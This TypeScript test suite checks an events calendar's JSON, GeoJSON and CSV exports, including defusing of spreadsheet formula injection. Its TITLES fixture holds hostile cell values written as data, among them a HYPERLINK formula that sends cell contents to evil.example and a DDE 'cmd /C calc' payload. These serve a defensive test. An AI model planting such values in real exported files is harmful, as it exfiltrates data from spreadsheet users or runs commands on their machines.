import { isDeepStrictEqual } from 'node:util';
import { parse } from 'csv-parse/sync';
import { getNamedType, isObjectType } from 'graphql';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { plainLines } from '../../../../src/annexes/common/lines.ts';
import { feeds as annex } from '../../../../src/annexes/feeds/annex.ts';
import { ACCESSIBILITY } from '../../../../src/calendar/accessibility.ts';
import { schema } from '../../../../src/serve/graphql/schema.ts';
import { assertAbove, assertBelow } from '../../../helpers/assertions.ts';
import { NOW } from '../../../helpers/calendar.ts';
import { sourceFolder } from '../../../helpers/native-source.ts';
import { startBuilt } from '../../../helpers/running.ts';
import { startSample } from '../../serve/http/sample.ts';
import type { Stand } from '../../serve/http/stand.ts';

interface Context {
  stand: Stand;
  labels: Map<string, Labels>;
  ownPrices: OwnPrices;
}

const lists = suite<Context>('plain lists');

type Labels = Readonly<Record<'name_nb' | 'name_en', string>>;

/** Prices of dates, by the date's id: an event does not say which its shown date has. */
type OwnPrices = ReadonlyMap<string, unknown>;

lists.before(async (context) => {
  context.stand = await startSample({ annexes: [annex] });
  const { categories } = (
    await ask(context.stand, '{ categories { id name_nb name_en subcategories { id name_nb name_en } } }')
  ).data;
  context.labels = new Map(
    categories
      .flatMap((category: Answered) => [category, ...category.subcategories])
      .map((category: Answered) => [category.id, category]),
  );
  const dates = `{ events(pageSize: 1000) { data { repetitions ${selectionOf('Repetition')} } } }`;
  const { events } = (await ask(context.stand, dates)).data;
  context.ownPrices = new Map(
    events.data
      .flatMap((event: Answered) => event.repetitions)
      .map(({ id, prices }: Answered) => [id, prices]),
  );
});
lists.after(({ stand }) => stand.close());

const ask = async (stand: Stand, query: string, variables: object = {}) =>
  JSON.parse((await stand.post(query, { variables })).text);

/** All fields that are not deprecated. */
function selectionOf(name: string): string {
  const type = schema.getType(name);
  if (!isObjectType(type)) return '';
  const fields = Object.values(type.getFields()).filter((field) => field.deprecationReason === undefined);
  return `{ ${fields.map((field) => `${field.name} ${selectionOf(getNamedType(field.type).name)}`).join(' ')} }`;
}

const QUERY = `query ($filter: Filter, $page: Int, $pageSize: Int) {
  events(filter: $filter, page: $page, pageSize: $pageSize) {
    totalCount hasMore pageInfo { currentPage pageSize } data ${selectionOf('Event')}
  }
}`;

/** Addresses, and the variables that mean the same: what makes a list another one. `contract.test.ts` has all filters. */
const QUESTIONS: readonly (readonly [search: string, variables: object])[] = [
  ['lang=nb', { pageSize: 250 }],
  ['lang=en&pageSize=1000', { pageSize: 1_000 }],
  [
    'lang=en&groupRepetitionsByDay=true&page=2&pageSize=40',
    { filter: { groupRepetitionsByDay: true }, page: 2, pageSize: 40 },
  ],
  ['lang=nb&tag=nei', { filter: { tag: 'nei' }, pageSize: 250 }],
  ['lang=nb&hoursRange=kveld&page=-1', { filter: { hoursRange: 'kveld' }, page: -1, pageSize: 250 }],
];

// biome-ignore lint/suspicious/noExplicitAny: answers of a schema that grows.
type Answered = any;

lists(
  'I6: should hold the nodes of events whole, or refuse what events refuses',
  async ({ stand, labels, ownPrices }) => {
    let found = 0;
    for (const [search, variables] of QUESTIONS) {
      const lang = search.startsWith('lang=en') ? 'en' : 'nb';
      // One after the other: of large answers, two are made at a time, and on a slow machine others may wait too long (D14).
      const expected: Answered = await ask(stand, QUERY, variables);
      const json = await stand.send(`/events.json?${search}`);
      const geo = await stand.send(`/events.geojson?${search}`);
      const csv = await stand.send(`/events.csv?${search}&repetitions=all`);
      if (expected.data === null) {
        for (const { status, text } of [json, geo, csv]) {
          assert.is(status, 400, search);
          assert.equal(
            JSON.parse(text).errors[0].extensions.invalidArgs,
            expected.errors[0].extensions.invalidArgs,
          );
        }
        continue;
      }
      const { totalCount, hasMore, pageInfo, data: nodes } = expected.data.events;
      const page = { totalCount, hasMore, page: pageInfo.currentPage, pageSize: pageInfo.pageSize };
      const events = nodes.map((node: Answered) => inLanguage(node, lang, labels));
      found += events.length;
      same(JSON.parse(json.text).events, events, search);
      const { events: _, hints: __, ...aroundEvents } = JSON.parse(json.text);
      assert.equal(aroundEvents, page, search);
      assert.equal(JSON.parse(geo.text), {
        type: 'FeatureCollection',
        ...page,
        features: events.filter(({ venue }: Answered) => venue?.location).map(featureOf),
      });
      same(
        rowsIn(csv.text),
        events.flatMap((event: Answered) => rowsOf(event, lang, ownPrices)),
        search,
      );
    }
    assertAbove(found, 400, 'nodes');
  },
);

lists('I6: should have no more behind the page that ends with the last event', async ({ stand }) => {
  const { totalCount } = (await ask(stand, '{ events { totalCount } }')).data.events;
  for (const [pageSize, hasMore] of [
    [totalCount, false],
    [totalCount - 1, true],
  ]) {
    const { text } = await stand.send(`/events.json?pageSize=${pageSize}`);
    assert.is(JSON.parse(text).hasMore, hasMore);
  }
});

/** Says the first that differs: a difference of thousands takes minutes to print. */
function same(found: readonly object[], expected: readonly object[], search: string): void {
  for (const [place, each] of expected.entries()) {
    if (!isDeepStrictEqual(found[place], each)) assert.equal(found[place], each, `${search}, at ${place}`);
  }
  assert.is(found.length, expected.length, search);
}

function inLanguage(node: Answered, lang: 'nb' | 'en', labels: Map<string, Labels>): Answered {
  const pick = (nb: unknown, en: unknown) => (lang === 'nb' ? (nb ?? en) : (en ?? nb));
  return {
    title: pick(node.title_nb, node.title_en),
    description: pick(node.desc_nb, node.desc_en),
    summary: pick(node.summary_nb, node.summary_en),
    categoryLabels: node.categories.map((id: string) =>
      pick(labels.get(id)?.name_nb, labels.get(id)?.name_en),
    ),
    ...node,
  };
}

function featureOf(event: Answered): object {
  const { latitude, longitude } = event.venue.location;
  const geometry = { type: 'Point', coordinates: [longitude, latitude] };
  return { type: 'Feature', id: event.occurrenceID, geometry, properties: event };
}

const rowsIn = (csv: string): Answered[] => parse(csv, { columns: true, record_delimiter: '\r\n' });

/** Its values as the interface has them, but for prices, the cover image and texts, which are put for readers. */
function rowsOf(event: Answered, lang: 'nb' | 'en', ownPrices: OwnPrices): object[] {
  const shown = { ...event, id: event.occurrenceID, prices: ownPrices.get(event.occurrenceID) };
  // E6: an event has its own and its shown venue's; in the sample no event repeats its venue's.
  const own: unknown[] = event.accessibility.filter(
    (word: unknown) => !event.venue?.accessibility.includes(word),
  );
  return [shown, ...event.repetitions].map((date) => {
    const prices = event.ticketsInformation === 'ticketsInfo' ? (date.prices ?? event.prices) : [];
    return texts({
      id: event.id,
      occurrenceID: date.id,
      title: event.title,
      startDate: date.startDate,
      endDate: date.endDate,
      day: date.startDate.slice(0, 10),
      startTime: date.startTime,
      endTime: date.endDate === date.startDate ? null : date.endDate.slice(11, 16),
      allDay: date.allDay,
      eventCancelled: date.eventCancelled,
      eventSoldOut: date.eventSoldOut,
      mode: event.mode,
      venue: date.venue?.name,
      address: date.venue?.address,
      postalCode: date.venue?.postalCode,
      municipality: date.venue?.municipality,
      latitude: date.venue?.location?.latitude,
      longitude: date.venue?.location?.longitude,
      categoryLabels: event.categoryLabels.join(', '),
      organizers: event.organizers.map(({ name }: Answered) => name).join(', '),
      eventLink: event.eventLink,
      ticketsURL: date.ticketsURL,
      streamingURL: event.streamingURL,
      free: event.ticketsInformation === 'free',
      prices: prices
        .map((price: Answered) =>
          [price[`name_${lang}`] ?? price.name_nb ?? price.name_en ?? price.type, price.price]
            .filter((part) => part !== null)
            .join(' '),
        )
        .join(', '),
      image: event.images[0]?.urlLarge,
      description: event.description && plainLines(event.description).replaceAll('\n', ' '),
      accessibility: ACCESSIBILITY.filter((word) =>
        own.concat(date.venue?.accessibility ?? []).includes(word),
      ).join(', '),
      summary: event.summary,
    });
  });
}

const texts = (row: object): object =>
  Object.fromEntries(Object.entries(row).map(([name, value]) => [name, String(value ?? '')]));

lists('I9: the table should leave out dates that are far away', async ({ stand }) => {
  const [near = [], all = []] = await Promise.all(
    ['', '?repetitions=all'].map(async (search) => rowsIn((await stand.send(`/events.csv${search}`)).text)),
  );
  assertBelow(near.length, all.length / 2, 'rows');
  assert.equal(
    near.filter(({ day }) => day >= '2027-06-16'),
    [],
  );
});

/** Published columns: programs may read them by their place. */
const PUBLISHED_COLUMNS = [
  'id',
  'occurrenceID',
  'title',
  'startDate',
  'endDate',
  'day',
  'startTime',
  'endTime',
  'allDay',
  'eventCancelled',
  'eventSoldOut',
  'mode',
  'venue',
  'address',
  'postalCode',
  'municipality',
  'latitude',
  'longitude',
  'categoryLabels',
  'organizers',
  'eventLink',
  'ticketsURL',
  'streamingURL',
  'free',
  'prices',
  'image',
  'description',
  'accessibility',
];

lists('I6: the header of the table only grows at its end', async ({ stand }) => {
  const { text } = await stand.send('/events.csv?pageSize=1');
  const [header = ''] = text.split('\r\n');
  assert.equal(header.split(',').slice(0, PUBLISHED_COLUMNS.length), PUBLISHED_COLUMNS);
});

lists('I6: should give Norwegian spreadsheets a mark of UTF-8 and decimal commas', async ({ stand }) => {
  const plain = await stand.send('/events.csv?pageSize=100');
  const norwegian = await stand.send('/events.csv?pageSize=100&delimiter=;');
  assert.is(plain.headers['content-type'], 'text/csv; charset=utf-8; header=present');
  assert.not.match(plain.text, /\ufeff/);
  assert.equal([...norwegian.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const options = { columns: true, delimiter: ';', bom: true, record_delimiter: '\r\n' };
  const withComma = ({ latitude, longitude, ...row }: Answered) => ({
    ...row,
    latitude: latitude.replace('.', ','),
    longitude: longitude.replace('.', ','),
  });
  assert.equal(parse(norwegian.text, options), rowsIn(plain.text).map(withComma));
  for (const { text } of [plain, norwegian]) assert.not.match(text.replaceAll('\r\n', ''), /[\r\n]/);
  for (const [search, reason] of [
    ['delimiter=|', 'delimiter: expected one of ,, ;'],
    ['delimiter=;&delimiter=;', 'delimiter: expected one value'],
  ]) {
    const { status, text } = await stand.send(`/events.csv?${search}`);
    assert.equal([status, JSON.parse(text).errors[0].extensions.reasons], [400, [reason]]);
  }
  assert.is((await stand.send('/events.json?delimiter=;')).status, 400);
});

/** Titles as strangers write them, and how a spreadsheet gets them. */
const TITLES: Readonly<Record<string, string>> = {
  '=1+1': "'=1+1",
  '=HYPERLINK("https://evil.example/?"&A1;"Les mer")': `'=HYPERLINK("https://evil.example/?"&A1;"Les mer")`,
  "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
  '+47 73 00 00 00': "'+47 73 00 00 00",
  '-2+3': "'-2+3",
  '＝1+1': "'＝1+1",
  'Rock;=1+1;': "Rock;'=1+1;",
  'Rock,=1+1,': "Rock,'=1+1,",
  'Rock;-1+1;': "Rock;'-1+1;",
  'foo;"=1+1;bar': `foo;'"=1+1;bar`,
  'foo; =1+1': "foo;' =1+1",
  'foo,"=2+2': `foo,'"=2+2`,
  'foo,"-2+2': `foo,'"-2+2`,
  '\u034f=1+1': "'\u034f=1+1",
  '\u3164=1+1': "'\u3164=1+1",
  'foo;\u3164\u034f@A1': "foo;'\u3164\u034f@A1",
  'Fra 149,- per person = billig': 'Fra 149,- per person = billig',
  'Sitat: "=1+1"': 'Sitat: "=1+1"',
  "'=1+1": "'=1+1",
  'a@b.example, 10-12': 'a@b.example, 10-12',
};

lists('I6: should put an apostrophe before a text that a spreadsheet would run', async () => {
  const events = Object.keys(TITLES).map((title, at) => ({
    id: `e${String(at).padStart(2, '0')}`,
    title_nb: title,
    dates: [{ start: '2026-06-01 20:00' }],
    desc_nb: `<p>${title.replaceAll('<', '&lt;')}</p><p>=2+2</p>`,
  }));
  const running = await startBuilt(sourceFolder({ 'events.json': events }), NOW);
  for (const delimiter of [',', ';']) {
    const response = await running.send(`/events.csv?delimiter=${delimiter}`);
    const rows: Answered[] = parse(response.text, { columns: true, delimiter, bom: true });
    assert.equal(
      rows.map(({ title }) => title),
      Object.values(TITLES),
    );
    for (const { description } of rows) assert.match(description, /[^\n]* =2\+2$/);
  }
  await running.close();
});

lists.run();
